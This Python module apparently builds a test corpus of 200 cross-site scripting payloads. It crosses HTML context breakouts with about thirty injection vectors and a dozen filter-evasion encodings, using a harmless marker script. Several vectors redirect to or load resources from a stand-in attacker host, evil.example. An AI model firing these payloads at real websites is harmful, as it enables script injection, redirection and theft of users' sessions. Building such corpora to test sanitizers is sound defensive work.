"""Two hundred ways to bring a script into a page: how they break out, act and are written."""

import random
from itertools import islice, product
from urllib.parse import quote

CODE = "window.__executed=1"
COUNT = 200
# What ends the place that the words stand in.
BREAKS = ["", "\">", "'>", "</textarea>", "</title>", "</script>", "-->", "</style>",
          "</option></select>", "]]>", "\\\"/>"]
VECTORS = [
    "<script>{code}</script>", "<img src=x onerror={code}>", "<svg onload={code}>",
    "<svg><script>{code}</script></svg>", "<details open ontoggle={code}>x</details>",
    "<input autofocus onfocus={code}>",
    "<iframe srcdoc=\"<script>parent.{code}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{code}\"></iframe>", "<a href=\"javascript:{code}\">x</a>",
    "<svg><a xlink:href=\"javascript:{code}\"><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}></style></mglyph></table>",
    "<body onpageshow={code}>", "<object data=\"data:text/html,<script>{code}</script>\"></object>",
    "<embed src=\"javascript:{code}\">",
    "<form><button formaction=\"javascript:{code}\">x</button>",
    "<video><source onerror={code}></video>", "<audio src=x onerror={code}></audio>",
    "<marquee onstart={code}>x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">", "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<style>@import '//evil.example/x.css';</style>", "<img src=\"//evil.example/x.png\">",
    "<noscript><p title=\"</noscript><img src=x onerror={code}>\">",
    "<div style=\"background:url(//evil.example/x)\">x</div>", "\" onmouseover={code} x=\"",
    "' onfocus={code} autofocus x='", "javascript:{code}", "data:text/html,<script>{code}</script>",
    "<xss style=\"animation-name:x\" onanimationstart={code}>x</xss>",
]


def entities(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(sign):x}" for sign in text)


def escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e").replace("\"", "\\u0022")


def wide(text: str) -> str:
    """Signs of full width, which some programs fold to plain ones."""
    return text.replace("<", "\uff1c").replace(">", "\uff1e").replace("\"", "\uff02")


WRITINGS = {
    "plain": str, "addresses": quote, "addresses twice": lambda text: quote(quote(text)),
    "entities": entities, "hexadecimal": hexadecimal, "escapes": escaped, "wide": wide,
    "capitals": lambda text: "".join(
        sign.upper() if index % 2 else sign for index, sign in enumerate(text)
    ).replace(CODE.swapcase(), CODE),
    "lines": lambda text: text.replace(" on", "\non").replace("script:", "scr\nipt:"),
    "tabs": lambda text: text.replace(" ", "\t").replace("script:", "scr\tipt:"),
    "slashes": lambda text: text.replace(" on", "/on"),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
}


def attacks() -> list[str]:
    """So many of all combinations, the same in each run; each part of them is there."""
    whole = list(product(BREAKS, VECTORS, WRITINGS.values()))
    random.Random(7).shuffle(whole)
    plain = [(BREAKS[index % len(BREAKS)], vector, str) for index, vector in enumerate(VECTORS)]
    written = (writing(end + vector.replace("{code}", CODE))
               for end, vector, writing in plain + whole)
    return list(islice(dict.fromkeys(written), COUNT))
